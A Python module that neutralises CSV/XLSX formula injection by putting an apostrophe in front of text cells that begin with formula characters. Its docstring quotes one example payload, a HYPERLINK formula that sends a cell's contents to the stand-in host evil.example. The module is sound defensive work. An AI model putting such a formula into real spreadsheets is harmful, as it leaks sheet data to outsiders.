"""Cells that a spreadsheet program will not run: OWASP's CSV-injection rule.

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@`
(and, after a tab or carriage return, the same) as a formula, so a fellow named
`=HYPERLINK("http://evil.example/?d="&B2,"Open")` becomes a live link that leaks the sheet
to whoever opens it. Every CSV and XLSX export passes its cells through `safe_cell`: such a
text cell gets a leading `'`, which shows the text as typed. Numbers and dates are not text
and stay numbers and dates.
"""

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value`, or a text that starts a formula with a `'` in front of it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


def safe_rows(rows: Iterable[Iterable]) -> list[list]:
    return [safe_row(row) for row in rows]
